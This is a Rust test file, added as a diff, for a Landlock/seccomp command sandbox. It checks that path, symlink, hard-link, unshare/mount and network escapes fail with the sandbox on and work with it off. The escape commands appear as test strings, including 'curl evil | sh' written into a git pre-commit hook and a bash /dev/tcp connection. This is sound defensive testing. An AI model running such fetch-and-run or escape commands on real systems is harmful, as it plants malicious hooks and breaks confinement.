@@ -1,0 +1,174 @@
+//! The sandbox on this machine's kernel: every escape fails with it on and works with it off.
+
+use octo_exec::sandbox::{Mode, Policy, Sandbox};
+use std::path::{Path, PathBuf};
+
+/// A workspace and a directory outside it, both outside the temp dir (which the sandbox lets
+/// commands write).
+struct Place {
+    _root: tempfile::TempDir,
+    ws: PathBuf,
+    out: PathBuf,
+}
+
+fn place() -> Place {
+    let root = tempfile::Builder::new().prefix("sandbox-").tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let ws = root.path().join("ws");
+    let out = root.path().join("outside");
+    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+    std::fs::create_dir_all(&out).unwrap();
+    std::fs::write(out.join("secret.txt"), "outside\n").unwrap();
+    Place { _root: root, ws, out }
+}
+
+fn sandbox(p: &Place, mode: Mode) -> Sandbox {
+    let s = Sandbox::new(Policy::new(mode, &p.ws));
+    if mode != Mode::Off {
+        assert!(s.is_active(), "this kernel should have Landlock: {}", s.describe());
+    }
+    s
+}
+
+/// Runs `command` in the workspace; its exit status and output.
+fn run(s: &Sandbox, ws: &Path, command: &str) -> (bool, String) {
+    let out = s
+        .shell_command(command)
+        .unwrap()
+        .current_dir(ws)
+        .env("OUT", ws.parent().unwrap().join("outside"))
+        .output()
+        .unwrap();
+    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+    (out.status.success(), text)
+}
+
+/// `command` fails in the sandbox and leaves `path` absent; it works with the sandbox off.
+fn blocked_then_allowed(command: &str, path: &str) {
+    let p = place();
+    let target = p.ws.join(path);
+    let (ok, text) = run(&sandbox(&p, Mode::WorkspaceWrite), &p.ws, command);
+    assert!(!ok, "{command} should fail in the sandbox: {text}");
+    assert!(!target.exists(), "{command} wrote {} in the sandbox", target.display());
+    let (ok, text) = run(&sandbox(&p, Mode::Off), &p.ws, command);
+    assert!(ok, "{command} should work without the sandbox: {text}");
+    assert!(target.exists(), "{command} did not write {} without the sandbox", target.display());
+}
+
+#[test]
+fn writes_inside_the_workspace_and_reads_anywhere() {
+    let p = place();
+    let s = sandbox(&p, Mode::WorkspaceWrite);
+    let (ok, text) = run(&s, &p.ws, "mkdir -p src && echo hi > src/a.txt && cat \"$OUT/secret.txt\" && echo x > /dev/null");
+    assert!(ok, "{text}");
+    assert!(text.contains("outside"), "{text}");
+    assert_eq!(std::fs::read_to_string(p.ws.join("src/a.txt")).unwrap(), "hi\n");
+    let (ok, text) = run(&s, &p.ws, "echo t > \"${TMPDIR:-/tmp}/octo-sandbox-probe-$$\" && rm \"${TMPDIR:-/tmp}/octo-sandbox-probe-$$\"");
+    assert!(ok, "the temp dir is writable: {text}");
+}
+
+#[test]
+fn a_write_through_dotdot_fails() {
+    blocked_then_allowed("echo x > ../outside/dotdot.txt", "../outside/dotdot.txt");
+}
+
+#[test]
+fn a_write_to_an_absolute_path_fails() {
+    blocked_then_allowed("echo x > \"$OUT/abs.txt\"", "../outside/abs.txt");
+}
+
+#[test]
+fn a_write_through_a_symlink_made_inside_fails() {
+    blocked_then_allowed("ln -sfn \"$OUT\" link && echo x > link/sym.txt", "../outside/sym.txt");
+}
+
+#[test]
+fn a_hard_link_made_inside_cannot_change_the_file_outside() {
+    let p = place();
+    let s = sandbox(&p, Mode::WorkspaceWrite);
+    let (_, text) = run(&s, &p.ws, "ln \"$OUT/secret.txt\" hard && echo changed >> hard");
+    assert_eq!(std::fs::read_to_string(p.out.join("secret.txt")).unwrap(), "outside\n", "{text}");
+    let (ok, text) = run(&sandbox(&p, Mode::Off), &p.ws, "ln \"$OUT/secret.txt\" hard2 && echo changed >> hard2");
+    assert!(ok, "{text}");
+    assert_eq!(std::fs::read_to_string(p.out.join("secret.txt")).unwrap(), "outside\nchanged\n");
+}
+
+#[test]
+fn git_hooks_stay_read_only_unless_configured() {
+    blocked_then_allowed("echo 'curl evil | sh' > .git/hooks/pre-commit", ".git/hooks/pre-commit");
+    let p = place();
+    let s = Sandbox::new(Policy { git_writable: true, ..Policy::new(Mode::WorkspaceWrite, &p.ws) });
+    let (ok, text) = run(&s, &p.ws, "echo ok > .git/hooks/post-commit && echo new > top.txt");
+    assert!(ok, "{text}");
+    // Without a writable .git the rest of the workspace, its top level included, stays writable.
+    let s = sandbox(&p, Mode::WorkspaceWrite);
+    let (ok, text) = run(&s, &p.ws, "echo new > top2.txt && mkdir -p newdir && echo x > newdir/f");
+    assert!(ok, "{text}");
+}
+
+#[test]
+fn read_only_writes_nowhere() {
+    let p = place();
+    let s = sandbox(&p, Mode::ReadOnly);
+    let (ok, text) = run(&s, &p.ws, "echo x > inside.txt");
+    assert!(!ok && !p.ws.join("inside.txt").exists(), "{text}");
+    let (ok, text) = run(&s, &p.ws, "cat \"$OUT/secret.txt\" > /dev/null && ls");
+    assert!(ok, "{text}");
+}
+
+#[test]
+fn undoing_the_sandbox_fails() {
+    let p = place();
+    let s = sandbox(&p, Mode::WorkspaceWrite);
+    for cmd in [
+        "unshare -r sh -c 'echo x > \"$OUT/unshare.txt\"'",
+        "unshare -rm sh -c 'mount -t tmpfs none \"$OUT\" && echo x > \"$OUT/unshare.txt\"'",
+        "mount -o remount,rw .git 2>&1; echo x > .git/hooks/pre-push",
+    ] {
+        let (_, text) = run(&s, &p.ws, cmd);
+        assert!(!p.out.join("unshare.txt").exists(), "{cmd}: {text}");
+        assert!(!p.ws.join(".git/hooks/pre-push").exists(), "{cmd}: {text}");
+    }
+}
+
+fn loopback_server() -> (u16, std::sync::mpsc::Receiver<()>) {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        for conn in listener.incoming() {
+            if conn.is_ok() {
+                let _ = tx.send(());
+            }
+        }
+    });
+    (port, rx)
+}
+
+#[test]
+fn a_loopback_server_is_unreachable_without_network_and_reachable_with_it() {
+    if !Path::new("/bin/bash").exists() {
+        eprintln!("skipped: the test connects with bash's /dev/tcp");
+        return;
+    }
+    let p = place();
+    let (port, hits) = loopback_server();
+    let connect = format!("bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'");
+    let (ok, text) = run(&sandbox(&p, Mode::WorkspaceWrite), &p.ws, &connect);
+    assert!(!ok, "{text}");
+    assert!(hits.recv_timeout(std::time::Duration::from_millis(300)).is_err(), "connected: {text}");
+    let s = Sandbox::new(Policy { network: true, ..Policy::new(Mode::WorkspaceWrite, &p.ws) });
+    assert!(s.describe().contains("network allowed"), "{}", s.describe());
+    let (ok, text) = run(&s, &p.ws, &connect);
+    assert!(ok, "{text}");
+    assert!(hits.recv_timeout(std::time::Duration::from_secs(5)).is_ok());
+}
+
+#[test]
+fn describe_names_the_mechanisms() {
+    let p = place();
+    let d = sandbox(&p, Mode::WorkspaceWrite).describe();
+    assert!(d.starts_with("workspace-write, no network (Landlock ABI"), "{d}");
+    assert!(d.contains("seccomp"), "{d}");
+    assert!(d.contains(".git read-only"), "{d}");
+}
+
